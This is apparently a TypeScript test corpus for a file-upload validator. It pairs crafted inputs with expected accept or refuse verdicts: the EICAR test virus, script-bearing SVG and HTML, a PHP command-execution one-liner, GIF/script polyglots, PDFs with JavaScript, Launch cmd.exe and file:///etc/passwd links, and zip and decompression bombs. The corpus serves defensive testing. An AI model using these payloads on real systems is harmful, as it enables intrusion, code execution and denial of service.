import { deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { eicar } from '../features/files/scanner.ts'
import { objectStream, pdfOf } from './costlyContent.ts'
import { openingScript, packedPdf } from './packedPdf.ts'
import { pdf, picture } from './uploading.ts'

/**
 * The result of an upload: accepted, or refused with a status and, where several reasons share one, a part of its text.
 */
export type Verdict = 'accepted' | readonly [status: 413 | 415 | 422, reason?: string]

/** A possible upload, and its expected result. */
export interface Shape {
  readonly what: string
  readonly content: Uint8Array
  readonly verdict: Verdict
}

const megabyte = 1_048_576
const wrongType = [415, 'Upload one of these: PDF, JPEG, PNG, GIF'] as const
const malware = [422, 'We found malware'] as const
const brokenImage = [422, 'This picture is damaged or too large'] as const
const brokenPdf = [422, 'This PDF is damaged'] as const
const lockedPdf = [422, 'This PDF is protected'] as const
const activePdf = [422, 'contains scripts, other files'] as const
const complexPdf = [422, 'We couldn’t check this PDF'] as const

const join = (...parts: readonly (string | Uint8Array)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))
const script = '<script>fetch("https://evil.example")</script>'

const action = (name: string, rest: string) => `1 0 obj << /OpenAction << /S /${name} ${rest} >> >> endobj\n`

/** Returns a PNG without pixels whose header states a size. */
async function pngOf(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(await picture('png'))
  png.writeUInt32BE(width, 16)
  png.writeUInt32BE(height, 20)
  return png
}

async function gifOf(width: number, height: number): Promise<Buffer> {
  const gif = Buffer.from(await picture('gif'))
  gif.writeUInt16LE(width, 6)
  gif.writeUInt16LE(height, 8)
  return gif
}

/** Returns a PDF of a given size in bytes. */
function sized(bytes: number): Buffer {
  return join(pdf, Buffer.alloc(bytes - 2 * pdf.length, ' '), pdf)
}

function ofMalware(jpeg: Uint8Array, gif: Uint8Array): Shape[] {
  const docx = { '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': eicar }
  return [
    { what: 'the test virus', content: eicar, verdict: wrongType },
    { what: 'the test virus with spaces to 128 bytes', content: join(eicar, ' '.repeat(60)), verdict: wrongType },
    { what: 'the test virus in a zip', content: zipSync({ 'eicar.com': eicar }), verdict: wrongType },
    { what: 'the test virus in a docx', content: zipSync(docx), verdict: wrongType },
    { what: 'the test virus in a PDF', content: pdfOf('4 0 obj\nstream\n', eicar, '\nendstream'), verdict: malware },
    { what: 'the test virus appended to a JPEG', content: join(jpeg, eicar), verdict: malware },
    { what: 'the test virus appended to a GIF', content: join(gif, eicar), verdict: malware },
  ]
}

function ofPages(): Shape[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`
  return [
    { what: 'an SVG with a script', content: join(svg), verdict: wrongType },
    { what: 'an SVG with a declaration', content: join(`<?xml version="1.0"?>${svg}`), verdict: wrongType },
    { what: 'an HTML page with a script', content: join(`<!doctype html>${script}`), verdict: wrongType },
    { what: 'an HTML page in UTF-16', content: Buffer.from(`\ufeff<html>${script}`, 'utf16le'), verdict: wrongType },
    { what: 'an XML with a stylesheet', content: join('<?xml-stylesheet href="x.xsl"?><x/>'), verdict: wrongType },
    { what: 'an MHTML', content: join('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n'), verdict: wrongType },
    { what: 'a script', content: join('alert(1)'), verdict: wrongType },
    { what: 'a PHP page', content: join('<?php system($_GET[0]); ?>'), verdict: wrongType },
  ]
}

function ofTwoKinds(jpeg: Uint8Array, png: Uint8Array, gif: Uint8Array): Shape[] {
  const zip = zipSync({ 'a.html': strToU8(script) })
  return [
    { what: 'a script that begins as a GIF', content: join('GIF89a=1;alert(1)//', script), verdict: brokenImage },
    {
      what: 'a GIF that is also a script',
      content: join('GIF89a/*', gif.subarray(8), '*/=alert(1)'),
      verdict: 'accepted',
    },
    { what: 'a GIF with a script appended', content: join(gif, `;/*${script}*/`), verdict: 'accepted' },
    { what: 'a JPEG with a zip appended', content: join(jpeg, zip), verdict: 'accepted' },
    { what: 'a PNG with a zip appended', content: join(png, zip), verdict: 'accepted' },
    { what: 'a JPEG with PHP appended', content: join(jpeg, '<?php ?>'), verdict: 'accepted' },
    { what: 'a page before a PDF', content: join(`<html>${script}<!--`, pdf), verdict: wrongType },
    { what: 'a comment before a PDF', content: join('<!--\n', pdf), verdict: wrongType },
    { what: 'a page appended to a PDF', content: join(pdf, script), verdict: brokenPdf },
    { what: 'a zip appended to a PDF', content: join(pdf, zip), verdict: brokenPdf },
  ]
}

async function ofPixels(): Promise<Shape[]> {
  const large = await picture('png', 8192, 6144)
  return [
    { what: 'a PNG of 50,000 x 50,000', content: await pngOf(50_000, 50_000), verdict: brokenImage },
    { what: 'a PNG of 2,147,483,647 x 1', content: await pngOf(2_147_483_647, 1), verdict: brokenImage },
    { what: 'a PNG of no pixels', content: await pngOf(0, 0), verdict: brokenImage },
    // Only its actual pixels count, which it is re-encoded with.
    { what: 'a GIF on a screen of 65,535 x 65,535', content: await gifOf(65_535, 65_535), verdict: 'accepted' },
    { what: 'a PNG of 50 million pixels', content: large, verdict: 'accepted' },
  ]
}

function ofParts(jpeg: Uint8Array, png: Uint8Array, gif: Uint8Array): Shape[] {
  const half = (content: Uint8Array) => content.subarray(0, content.length / 2)
  return [
    { what: 'nothing', content: Buffer.alloc(0), verdict: [422, 'This file is empty'] },
    { what: 'one byte', content: join('%'), verdict: wrongType },
    { what: 'zeros', content: Buffer.alloc(1000), verdict: wrongType },
    { what: 'half a PDF', content: half(pdf), verdict: brokenPdf },
    { what: 'the beginning of a PDF', content: join('%PDF-1.7'), verdict: brokenPdf },
    { what: 'a PDF without a version', content: join('%PDF-x', pdf.subarray(6)), verdict: brokenPdf },
    { what: 'half a JPEG', content: half(jpeg), verdict: brokenImage },
    { what: 'half a PNG', content: half(png), verdict: brokenImage },
    { what: 'the beginning of a GIF', content: gif.subarray(0, 12), verdict: brokenImage },
  ]
}

function ofPdfs(): Shape[] {
  const bomb = Buffer.alloc(70 * megabyte, ' ')
  return [
    { what: 'a PDF with a password', content: pdfOf('trailer << /Encrypt 5 0 R >>'), verdict: lockedPdf },
    { what: 'a PDF with a password inside', content: pdfOf('trailer << /Encrypt<< /V 5 >> >>'), verdict: lockedPdf },
    { what: 'a PDF with a script', content: pdfOf(action('JavaScript', '/JS (app.alert(1))')), verdict: activePdf },
    { what: 'a PDF with a script in codes', content: pdfOf(action('J#61vaScrip#74', '')), verdict: activePdf },
    { what: 'a PDF that launches', content: pdfOf(action('Launch', '/F (cmd.exe)')), verdict: activePdf },
    { what: 'a PDF with an attachment', content: pdfOf('<< /Type /EmbeddedFile >>'), verdict: activePdf },
    { what: 'a PDF with attachments', content: pdfOf('/Names << /EmbeddedFiles 3 0 R >>'), verdict: activePdf },
    { what: 'a PDF with a film', content: pdfOf('<< /Subtype /RichMedia >>'), verdict: activePdf },
    { what: 'a PDF with a packed script', content: pdfOf(objectStream('<< /JS (x) >>')), verdict: activePdf },
    { what: 'a PDF packed in codes', content: pdfOf(objectStream('<< >>', '/Obj#53tm')), verdict: brokenPdf },
    { what: 'a PDF packed in another way', content: pdfOf('<< /Type /ObjStm >>\nstream\nxx'), verdict: brokenPdf },
    {
      what: 'a PDF with a script packed twice',
      content: packedPdf(openingScript, {
        filter: '/Filter[/FlateDecode/FlateDecode]',
        encode: (objects) => deflateSync(deflateSync(objects)),
      }),
      verdict: complexPdf,
    },
    {
      what: 'a PDF with a script packed without a type',
      content: packedPdf(openingScript, { keys: '/N 1/First 4' }),
      verdict: activePdf,
    },
    { what: 'a PDF that unpacks to 70 MB', content: pdfOf(objectStream(bomb)), verdict: complexPdf },
    { what: 'a packed PDF', content: pdfOf(objectStream('<< /Type /Page >>')), verdict: 'accepted' },
    { what: 'a PDF with a text about JavaScript', content: pdfOf('(JavaScript, /JavaScripting)'), verdict: 'accepted' },
  ]
}

/**
 * [V14] Returns PDFs with actions other than scripts, run automatically or at a click, and with links as in ordinary
 * documents.
 */
function ofActions(): Shape[] {
  const link = (target: string) => pdfOf(`<< /Subtype /Link /F 4 /A << /S /URI /URI ${target} >> >>`)
  const hex = (text: string) => `<${Buffer.from(text).toString('hex')}>`
  const accepted = [
    '(https://broker.example/a\\(b\\))',
    '(http://broker.example)',
    '(mailto:desk@broker.example)',
    '(tel:+97140000000)',
    '(www.broker.example)',
    hex('https://broker.example'),
    `(https://broker.example/?q=${'a'.repeat(2000)})`,
  ]
  const refused = [
    '(javascript:alert\\(1\\))',
    '(file:///etc/passwd)',
    '(\\\\\\\\server\\\\share)',
    '(//server/share)',
    '( \\n\\146ile://server/share)',
    hex('\\\\server\\share'),
    '(ms-word:ofe|u|http://evil.example/x.docm)',
    '12 0 R',
    `(${' '.repeat(2000)}file:///etc/passwd)`,
  ]
  return [
    ...accepted.map((target) => ({
      what: `a PDF that links to ${target.slice(0, 50)}`,
      content: link(target),
      verdict: 'accepted' as const,
    })),
    ...refused.map((target) => ({
      what: `a PDF that links to ${target.slice(0, 50)}`,
      content: link(target),
      verdict: activePdf,
    })),
    { what: 'a PDF with an XFA form', content: pdfOf('/AcroForm << /XFA [(template) 5 0 R] >>'), verdict: activePdf },
    { what: 'a PDF with a packed XFA form', content: pdfOf(objectStream('<< /XFA 5 0 R >>')), verdict: activePdf },
    {
      what: 'a PDF that sends a form',
      content: pdfOf(action('SubmitForm', '/F (http://x.example)')),
      verdict: activePdf,
    },
    { what: 'a PDF that imports data', content: pdfOf(action('ImportData', '/F (x.fdf)')), verdict: activePdf },
    { what: 'a PDF that opens another', content: pdfOf(action('GoToR', '/F (x.pdf)')), verdict: activePdf },
    { what: 'a PDF that opens an embedded one', content: pdfOf(action('GoToE', '/T << >>')), verdict: activePdf },
    {
      what: 'a PDF that reads a share',
      content: pdfOf('<< /Length 0 /F (\\\\\\\\server\\\\x) >>'),
      verdict: activePdf,
    },
    { what: 'a PDF that jumps to a page', content: pdfOf(action('GoTo', '/D [3 0 R /Fit]')), verdict: 'accepted' },
  ]
}

function ofOtherTypes(): Shape[] {
  const bomb = zipSync({ zeros: Buffer.alloc(10 * megabyte) })
  return [
    { what: 'a zip bomb', content: bomb, verdict: wrongType },
    { what: 'a zip in a zip in a zip', content: zipSync({ b: zipSync({ b: bomb }) }), verdict: wrongType },
    {
      what: 'a Windows program',
      content: Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
      verdict: wrongType,
    },
    { what: 'a Linux program', content: Buffer.from('7f454c4602010100', 'hex'), verdict: wrongType },
    { what: 'an old Word file', content: Buffer.from('d0cf11e0a1b11ae1', 'hex'), verdict: wrongType },
    { what: 'PostScript', content: join('%!PS-Adobe-3.0 EPSF-3.0\n'), verdict: wrongType },
    { what: 'a WebP', content: join('RIFF\x24\0\0\0WEBPVP8 '), verdict: wrongType },
    { what: 'a TIFF', content: join('II*\0\x08\0\0\0'), verdict: wrongType },
  ]
}

/** Returns every shape; files may have up to 10 MB. */
export async function corpus(): Promise<Shape[]> {
  const jpeg = await picture('jpeg', 400, 400)
  const png = await picture('png', 400, 400)
  const gif = await picture('gif', 400, 400)
  const most = 10 * megabyte
  return [
    ...ofMalware(jpeg, gif),
    ...ofPages(),
    ...ofTwoKinds(jpeg, png, gif),
    ...(await ofPixels()),
    ...ofParts(jpeg, png, gif),
    ...ofPdfs(),
    ...ofActions(),
    ...ofOtherTypes(),
    { what: 'a byte less than the maximum', content: sized(most - 1), verdict: 'accepted' },
    { what: 'exactly the maximum', content: sized(most), verdict: 'accepted' },
    { what: 'a byte more than the maximum', content: sized(most + 1), verdict: [413, 'The limit is 10 MB'] },
  ]
}
